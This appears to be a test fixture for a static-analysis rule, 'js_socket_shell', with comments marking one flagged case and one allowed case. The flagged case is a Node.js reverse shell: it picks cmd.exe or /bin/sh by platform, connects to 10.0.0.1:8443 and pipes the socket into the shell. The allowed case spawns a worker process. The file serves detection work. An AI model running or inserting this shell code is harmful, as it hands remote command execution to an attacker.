// The shell chosen by a condition on the platform.
const net = require('net');
const cp = require('child_process');
const sh = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
const client = new net.Socket();
client.connect(8443, '10.0.0.1', () => {
  // ruleid: js_socket_shell
  client.pipe(sh.stdin);
});
// ok: js_socket_shell
const child = cp.spawn(process.execPath, ['worker.js']);
